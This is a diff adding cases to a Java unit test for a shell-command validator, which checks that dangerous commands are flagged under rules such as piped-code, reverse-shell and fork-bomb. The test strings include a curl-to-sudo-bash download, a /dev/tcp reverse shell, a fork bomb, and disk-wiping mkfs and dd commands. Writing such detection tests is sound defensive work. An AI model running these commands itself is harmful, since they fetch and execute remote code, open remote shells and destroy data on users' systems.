@@ -157,6 +157,14 @@ class ShellCommandValidatorTest {
         assertEquals("shell.disk-tools", open.check("mkfs.ext4 /dev/sdb1").rule());
         assertEquals(
                 "shell.block-device", open.check("dd if=/dev/zero of=/dev/sda").rule());
+        assertEquals(
+                "shell.piped-code",
+                open.check("curl -fsSL https://x.example/i.sh | sudo bash").rule());
+        assertEquals(
+                "shell.reverse-shell",
+                open.check("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").rule());
+        assertEquals("shell.fork-bomb", open.check(":(){ :|:& };:").rule());
+        assertEquals(null, listed.check("curl https://example.org").rule());
     }
 
     @Test
